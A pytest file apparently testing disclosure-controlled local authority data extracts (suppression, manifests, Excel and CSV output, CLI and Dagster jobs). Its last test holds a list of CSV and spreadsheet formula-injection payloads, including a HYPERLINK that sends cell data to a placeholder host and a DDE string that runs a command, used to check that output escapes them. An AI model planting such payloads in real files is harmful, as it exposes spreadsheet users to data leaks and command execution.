"""Local authority extracts, from a published warehouse with known numbers (many of them
small): each LA gets its own neighbourhoods and all of them, no count from 1 to 7 in any
file, no suppressed count recoverable from the LA totals, checksummed manifests, and the
Dagster assets and the CLI write them."""

import hashlib
import json
import random
import sys
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import duckdb
import polars as pl
import pytest
from test_disclosure import assert_nothing_recoverable

from orchestration.disclosure import DEFAULT_RULE, TABLES, TOTAL_FLAG, Kind, table_spec
from orchestration.extracts import build_extracts, extracts_root
from orchestration.publish import publish

RUN_DATE = date(2026, 11, 23)
NEED = "fct_neighbourhood_need_capacity_monthly"
PRESSURE = "fct_activity_pressure_weekly"
LAS = {"E06000901": 5, "E06000902": 3, "E08000901": 1}  # neighbourhoods per LA
MONTHS = [date(2026, month, 1) for month in range(1, 7)]
WEEKS = [date(2026, 1, 5), date(2026, 1, 12)]


def _make_build(db: Path) -> None:
    """A build warehouse with the mart columns and lots of counts from 0 to 10."""
    rng = random.Random(6)
    dims, months, weeks = [], [], []
    number = 0
    for la, count in LAS.items():
        for _ in range(count):
            number += 1
            code = f"E029{number:05d}"
            population = rng.randint(3000, 12000)
            dims.append((code, la, "E54000901", f"Place {number}", "msoa", f"LA {la}", "ICB",
                         population, 5, 5, 20.0, 10.0, 30.0, False))  # fmt: skip
            for month in MONTHS:
                referrals = rng.choice([0, 1, 2, 3, 5, 7, 8, 9, 12, 30])
                onward = rng.choice([0, 1, 2, 6, 8, 14])
                months.append((code, month, month != MONTHS[-1], population, referrals, 0.0,
                               onward, rng.randint(0, onward), rng.randint(0, 6), 50.0, 0.0,
                               1000.0, 0.0, 20.0))  # fmt: skip
            for week in WEEKS:
                for activity in ("a", "b"):
                    attendees = rng.choice([0, 1, 3, 9, 20])
                    weeks.append((code, f"{code}{activity}", week, attendees, 20, 40, 0.5))
    db.parent.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(db))
    con.execute("create schema marts; create schema audit")
    con.execute(
        "create table marts.dim_neighbourhoods (neighbourhood_code varchar, lad_code varchar, "
        "icb_code varchar, neighbourhood_name varchar, neighbourhood_level varchar, "
        "lad_name varchar, icb_name varchar, population_total bigint, lsoa_count bigint, "
        "lsoas_with_imd_count bigint, imd_score_pop_weighted double, "
        "share_lsoas_most_deprived_decile_pct double, population_core20_pct double, "
        "is_core20 boolean)"
    )
    con.executemany(f"insert into marts.dim_neighbourhoods values ({','.join('?' * 14)})", dims)
    con.execute(
        f"create table marts.{NEED} (neighbourhood_code varchar, month_start_date date, "
        "is_complete_month boolean, population_total bigint, referrals_count bigint, "
        "referrals_per_1000 double, onward_referrals_count bigint, "
        "onward_referrals_refused_no_capacity_count bigint, activities_active_count bigint, "
        "weekly_places double, weekly_places_per_1000 double, funding_gbp double, "
        "funding_per_head_gbp double, imd_score_pop_weighted double)"
    )
    con.executemany(f"insert into marts.{NEED} values ({','.join('?' * 14)})", months)
    con.execute(
        f"create table marts.{PRESSURE} (neighbourhood_code varchar, activity_id varchar, "
        "week_start_date date, attendees_count bigint, places_count bigint, "
        "onward_referrals_12w_count bigint, pressure_z double)"
    )
    con.executemany(f"insert into marts.{PRESSURE} values (?, ?, ?, ?, ?, ?, ?)", weeks)
    con.execute(
        "create table audit.loads as select 'l1' as load_id, 'referrals' as source, "
        "'referrals.csv' as file_name, 'ab' || repeat('0', 62) as file_sha256, "
        "'loaded' as status, 10 as rows_loaded, timestamp '2026-11-23 06:00' as loaded_at"
    )
    con.close()


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("extracts") / "warehouse" / "warehouse.duckdb"
    _make_build(db)
    publish(db, build_info={"run_id": "test"})
    build_extracts(db, run_date=RUN_DATE)
    return db


def _folder(warehouse: Path, la: str) -> Path:
    return extracts_root(warehouse) / RUN_DATE.isoformat() / la


def _dim(warehouse: Path) -> pl.DataFrame:
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        return pl.from_arrow(con.sql("select * from marts.dim_neighbourhoods").to_arrow_table())
    finally:
        con.close()


def test_extracts_land_beside_the_warehouse_one_folder_per_la(warehouse: Path) -> None:
    root = extracts_root(warehouse)
    assert root == warehouse.parent.parent / "extracts"
    assert sorted(path.name for path in (root / RUN_DATE.isoformat()).iterdir()) == sorted(LAS)
    for la in LAS:
        names = {path.name for path in _folder(warehouse, la).iterdir()}
        tables = ("neighbourhoods", "need_capacity_monthly", "activity_pressure")
        expected = {f"{t}.{ext}" for t in tables for ext in ("csv", "parquet")}
        assert names == expected | {f"{la}_extract.xlsx", "manifest.json"}


def test_each_la_has_its_own_neighbourhoods_and_all_of_them(warehouse: Path) -> None:
    dim = _dim(warehouse)
    for la in LAS:
        own = set(dim.filter(pl.col("lad_code") == la)["neighbourhood_code"])
        folder = _folder(warehouse, la)
        assert set(pl.read_csv(folder / "neighbourhoods.csv")["neighbourhood_code"]) == own
        for table, periods in (("need_capacity_monthly", MONTHS), ("activity_pressure", WEEKS)):
            frame = pl.read_parquet(folder / f"{table}.parquet")
            body = frame.filter(~pl.col(TOTAL_FLAG))
            assert set(body["neighbourhood_code"]) == own
            per_period = 2 if table == "activity_pressure" else 1  # two activities each
            assert body.height == len(own) * len(periods) * per_period
            totals = frame.filter(pl.col(TOTAL_FLAG))
            assert totals["neighbourhood_code"].to_list() == [la] * len(periods)


def _count_columns(frame_columns: list[str], mart: str) -> list[str]:
    spec = table_spec(mart, frame_columns)
    return [
        name
        for name in frame_columns
        if name in spec.columns and spec.columns[name].kind == Kind.COUNT
    ]


MARTS = {
    "need_capacity_monthly": NEED,
    "activity_pressure": PRESSURE,
    "neighbourhoods": "dim_neighbourhoods",
}


def test_no_count_from_one_to_the_threshold_in_any_file(warehouse: Path) -> None:
    low = set(range(1, DEFAULT_RULE.threshold + 1))
    for la in LAS:
        folder = _folder(warehouse, la)
        for table, mart in MARTS.items():
            text = pl.read_csv(folder / f"{table}.csv", infer_schema=False)
            typed = pl.read_parquet(folder / f"{table}.parquet")
            sheet = pl.read_excel(
                folder / f"{la}_extract.xlsx", sheet_name=table, infer_schema_length=0
            )
            counts = _count_columns(typed.columns, mart)
            assert (mart == "dim_neighbourhoods") == (not counts)
            for name in counts:
                for values in (text[name], sheet[name].cast(pl.String)):
                    shown = [v for v in values.to_list() if v != DEFAULT_RULE.marker]
                    assert not {int(float(v)) for v in shown} & low, (la, table, name)
                assert not set(typed[name].drop_nulls().to_list()) & low
                assert typed[name].null_count() == typed[f"{name}_is_suppressed"].sum()
    # the data is full of small numbers, so something must have been hidden
    need = pl.read_csv(
        _folder(warehouse, "E06000901") / "need_capacity_monthly.csv", infer_schema=False
    )
    assert (need["referrals_count"] == DEFAULT_RULE.marker).sum() > 3


def test_no_suppressed_count_can_be_worked_out_from_the_la_totals(warehouse: Path) -> None:
    for la in LAS:
        for table, mart in (("need_capacity_monthly", NEED), ("activity_pressure", PRESSURE)):
            frame = pl.read_parquet(_folder(warehouse, la) / f"{table}.parquet")
            period = "month_start_date" if mart == NEED else "week_start_date"
            counts = _count_columns(frame.columns, mart)
            for (_,), group in frame.group_by([period]):
                assert_nothing_recoverable(
                    group, counts, table_spec(mart, frame.columns), DEFAULT_RULE
                )


def test_undeclared_columns_never_leave(warehouse: Path) -> None:
    pressure = pl.read_parquet(_folder(warehouse, "E06000901") / "activity_pressure.parquet")
    assert "pressure_z" not in pressure.columns  # not declared
    assert "onward_referrals_12w_count" not in pressure.columns  # a rolling sum: differences leak
    need = pl.read_parquet(_folder(warehouse, "E06000901") / "need_capacity_monthly.parquet")
    assert set(need.columns) - {TOTAL_FLAG} - {
        c for c in need.columns if c.endswith("_is_suppressed")
    } <= set(TABLES[NEED].columns)


def test_manifest_has_checksums_row_counts_and_source_versions(warehouse: Path) -> None:
    for la in LAS:
        folder = _folder(warehouse, la)
        manifest = json.loads((folder / "manifest.json").read_text())
        files = {path.name for path in folder.iterdir()} - {"manifest.json"}
        assert set(manifest["files"]) == files
        for name, entry in manifest["files"].items():
            assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == entry["sha256"]
        for table, entry in manifest["tables"].items():
            assert pl.read_parquet(folder / f"{table}.parquet").height == entry["rows"]
        # a file is named by its label (source and short sha256), never by the name it came in
        assert manifest["source_files"][0]["file_name"] == "referrals-ab0000000000.csv"
        assert manifest["source_files"][0]["file_sha256"].startswith("ab")
        assert {"icb-insight", "dbt-core", "duckdb"} <= set(manifest["versions"])
        assert manifest["published_version"]["run_id"] == "test"
        assert manifest["disclosure"]["threshold"] == DEFAULT_RULE.threshold
        assert "referral mix" in manifest["not_included"]
        assert "activity_pressure" not in manifest["not_included"]  # this warehouse has it


def test_workbook_has_a_readme_with_definitions_and_a_sheet_per_table(warehouse: Path) -> None:
    import fastexcel

    path = _folder(warehouse, "E06000902") / "E06000902_extract.xlsx"
    assert fastexcel.read_excel(path).sheet_names == [
        "README", "neighbourhoods", "need_capacity_monthly", "activity_pressure",
    ]  # fmt: skip
    readme = pl.read_excel(path, sheet_name="README", has_header=False, infer_schema_length=0)
    cells = " ".join(str(v) for row in readme.iter_rows() for v in row if v)
    assert "Suppression rule" in cells and DEFAULT_RULE.describe() in cells
    assert "Period" in cells and "2026-01-01" in cells and "Build date" in cells
    assert "Referrals to social prescribing made in the month" in cells  # from the marts yml
    sheet = pl.read_excel(path, sheet_name="need_capacity_monthly")
    assert sheet["population_total"].dtype.is_numeric()  # numbers stay numbers


def test_cli_rebuilds_one_la(warehouse: Path, monkeypatch, capsys) -> None:
    from orchestration.cli import main

    monkeypatch.setattr(
        sys, "argv", ["icb-insight", "extracts", "--la", "E08000901", "--warehouse", str(warehouse)]
    )
    main()
    out = capsys.readouterr().out
    assert "E08000901" in out and "E06000901" not in out
    monkeypatch.setattr(
        sys, "argv", ["icb-insight", "extracts", "--la", "E0NOPE", "--warehouse", str(warehouse)]
    )
    with pytest.raises(SystemExit) as exit_:
        main()
    assert exit_.value.code == 2
    assert "E0NOPE" in capsys.readouterr().err


def test_dagster_builds_all_then_one_la_by_partition(warehouse: Path, dagster_home) -> None:
    from dagster import DagsterInstance, materialize

    from orchestration.publishing.extracts import (
        la_extract,
        la_extracts,
        local_authority_partitions,
    )
    from orchestration.resources import WarehouseResource

    resources = {"warehouse": WarehouseResource(location=str(warehouse))}
    with DagsterInstance.ephemeral() as instance:
        assert materialize([la_extracts], resources=resources, instance=instance).success
        assert sorted(instance.get_dynamic_partitions(local_authority_partitions.name)) == sorted(
            LAS
        )
        result = materialize(
            [la_extract], resources=resources, instance=instance, partition_key="E06000902"
        )
        assert result.success
    today = extracts_root(warehouse) / datetime.now(UTC).date().isoformat()
    assert sorted(path.name for path in today.iterdir()) == sorted(LAS)


def test_full_build_writes_every_extract_and_the_partitioned_asset_has_its_own_job(
    dbt_manifest,
) -> None:
    from dagster import AssetKey

    from orchestration.definitions import defs

    full = defs.resolve_job_def("full_build").asset_layer.executable_asset_keys
    assert AssetKey(["la_extracts"]) in full and AssetKey(["la_extract"]) not in full
    one = defs.resolve_job_def("la_extract_job").asset_layer.executable_asset_keys
    assert one == {AssetKey(["la_extract"])}


@pytest.mark.parametrize("rows_per_chunk", [3, 50_000])
def test_sheet_rows_written_a_column_at_a_time_read_back_as_written_cell_by_cell(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rows_per_chunk: int
) -> None:
    """The data sheets' rows are made as XML by polars (orchestration.extracts._sheet_data),
    a chunk of rows at a time (here split across two chunks, and in one); read back, every
    cell is what xlsxwriter writes cell by cell: numbers, flags, text (escaped), the marker
    where suppressed, nothing where null."""
    import fastexcel
    import xlsxwriter

    from orchestration import extracts
    from orchestration.disclosure import as_text
    from orchestration.extracts import _fill_sheets, _sheet_data, _write_sheet

    monkeypatch.setattr(extracts, "ROWS_PER_CHUNK", rows_per_chunk)

    frame = pl.DataFrame(
        {
            "code": ["E1", 'a & <b> "c"', None, "  spaced  "],
            "day": [date(2026, 1, 5), date(2026, 1, 12), None, date(2027, 12, 31)],
            "count": [10, None, 0, 123456789],
            "count_is_suppressed": [False, True, False, False],
            "share": [0.30000000000000004, 1e20, None, -2.5],
            "is_total": [False, False, True, None],
        }
    )
    shown = as_text(frame, DEFAULT_RULE)
    typed = frame.select(shown.columns)
    expected_path, path = tmp_path / "cells.xlsx", tmp_path / "columns.xlsx"
    with xlsxwriter.Workbook(expected_path) as book:
        rows = [
            tuple(o if o is not None else t for t, o in zip(text, values, strict=True))
            for text, values in zip(shown.iter_rows(), typed.iter_rows(), strict=True)
        ]
        _write_sheet(book.add_worksheet("data"), [tuple(shown.columns), *rows])
    with xlsxwriter.Workbook(path) as book:
        book.add_worksheet("data").freeze_panes(1, 0)
    _fill_sheets(path, {"xl/worksheets/sheet1.xml": _sheet_data(frame, DEFAULT_RULE)})
    from polars.testing import assert_frame_equal

    for schema in ({"infer_schema_length": 0}, {}):
        got = pl.read_excel(path, sheet_name="data", **schema)
        # xlsxwriter keeps 16 significant digits (0.3), the columns every digit (the Parquet's)
        expected = pl.read_excel(expected_path, sheet_name="data", **schema)
        assert_frame_equal(got, expected, rel_tol=1e-15, abs_tol=0)
    assert pl.read_excel(path, sheet_name="data")["share"][0] == 0.30000000000000004
    sheet = fastexcel.read_excel(path).load_sheet("data")
    assert sheet.height == 4 and sheet.width == 5
    with zipfile.ZipFile(path) as book:  # no ZIP64 header where it is not needed
        assert not book.getinfo("xl/worksheets/sheet1.xml").extra
    assert pl.read_excel(path, sheet_name="data")["count"].to_list() == [
        "10",
        "[c]",
        "0",
        "123456789",
    ]


def test_batches_of_local_authorities_bounded_by_neighbourhoods() -> None:
    from orchestration.extracts import _batches

    sizes = {"a": 3, "b": 2, "c": 9, "d": 1, "e": 1}
    assert list(_batches(list(sizes), sizes, 5)) == [["a", "b"], ["c"], ["d", "e"]]
    assert list(_batches(["c", "a"], sizes, 100)) == [["c", "a"]]
    assert list(_batches([], sizes, 5)) == []


def test_packages_the_same_read_in_small_batches_and_a_table_too_long_for_a_sheet(
    warehouse: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Local authorities read a few neighbourhoods at a time write the same files; a table
    with more rows than a worksheet holds is left out of the workbook, said in its README and
    the manifest, and stays in the CSV and Parquet."""
    import fastexcel

    from orchestration import extracts

    monkeypatch.setattr(extracts, "NEIGHBOURHOODS_PER_BATCH", 2)
    monkeypatch.setattr(extracts, "EXCEL_MAX_ROWS", 13)  # E06000902: 12 week rows + 2 totals
    other = date(2026, 11, 24)
    build_extracts(warehouse, run_date=other)
    for la in LAS:
        before, after = _folder(warehouse, la), extracts_root(warehouse) / other.isoformat() / la
        for table in ("neighbourhoods", "need_capacity_monthly", "activity_pressure"):
            assert (before / f"{table}.csv").read_bytes() == (after / f"{table}.csv").read_bytes()
        manifest = json.loads((after / "manifest.json").read_text())
        long = manifest["tables"]["activity_pressure"]["rows"] >= 13
        assert ("activity_pressure sheet" in manifest["not_included"]) is long
        sheets = fastexcel.read_excel(after / f"{la}_extract.xlsx").sheet_names
        assert ("activity_pressure" in sheets) is not long
    assert long is False  # E08000901 (one neighbourhood): 4 rows + 2 totals
    manifest = json.loads((extracts_root(warehouse) / other.isoformat() / "E06000902" /
                           "manifest.json").read_text())  # fmt: skip
    assert "activity_pressure sheet" in manifest["not_included"]


def test_a_sheet_that_may_pass_2_gb_is_written_with_zip64_sizes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where the first chunk says the sheet may pass zipfile's limit (here made 1 kB), the
    part is written with ZIP64 sizes and still reads back whole."""
    import xlsxwriter

    from orchestration.extracts import _fill_sheets, _sheet_data

    frame = pl.DataFrame({"code": [f"E{n:08d}" for n in range(100)], "count": range(100)})
    path = tmp_path / "large.xlsx"
    with xlsxwriter.Workbook(path) as book:
        book.add_worksheet("data")
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 1000)
    _fill_sheets(path, {"xl/worksheets/sheet1.xml": _sheet_data(frame, DEFAULT_RULE)})
    monkeypatch.undo()
    with zipfile.ZipFile(path) as book:
        assert book.getinfo("xl/worksheets/sheet1.xml").extra  # the ZIP64 extra field
    got = pl.read_excel(path, sheet_name="data")
    assert got["code"].to_list() == frame["code"].to_list() and got.height == 100


HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "   =1",
    "\u00a0=1",
    "\uff1d1+1",  # full-width equals sign
    "\u3000\uff0b1",  # ideographic space, full-width plus
]


def test_text_a_spreadsheet_could_run_as_a_formula_is_guarded_in_csv_and_xlsx(
    tmp_path: Path,
) -> None:
    """A group name starting with = + - @, a tab or a carriage return (after white space,
    full-width forms too) reaches the CSV and the workbook with a single quote before it;
    the workbook holds it as a string (never a <f> formula); negative numbers in numeric
    columns stay numbers, and text that is harmless is unchanged."""
    import xlsxwriter

    from orchestration.disclosure import FORMULA_GUARD, as_text
    from orchestration.extracts import _fill_sheets, _sheet_data

    names = [*HOSTILE, "Friends of the Park", "a=b"]
    frame = pl.DataFrame(
        {
            "activity_name": names,
            "change": [-2.5] * len(names),
            "count": [-5] + [10] * (len(names) - 1),
            "count_is_suppressed": [False] * len(names),
        }
    )
    expected = [FORMULA_GUARD + name for name in HOSTILE] + names[len(HOSTILE) :]
    csv = tmp_path / "t.csv"
    as_text(frame).write_csv(csv)
    back = pl.read_csv(csv)
    assert back["activity_name"].to_list() == expected
    assert back["change"].to_list() == [-2.5] * len(names)  # a number, not text
    assert back["count"][0] == -5

    book_path = tmp_path / "t.xlsx"
    with xlsxwriter.Workbook(book_path) as book:
        book.add_worksheet("data")
    _fill_sheets(book_path, {"xl/worksheets/sheet1.xml": _sheet_data(frame, DEFAULT_RULE)})
    with zipfile.ZipFile(book_path) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    got = pl.read_excel(book_path, sheet_name="data")
    # an XML reader reads a carriage return in text as a line feed
    assert got["activity_name"].to_list() == [text.replace("\r", "\n") for text in expected]
    assert got["change"].to_list() == [-2.5] * len(names)
    assert got["count"][0] == -5
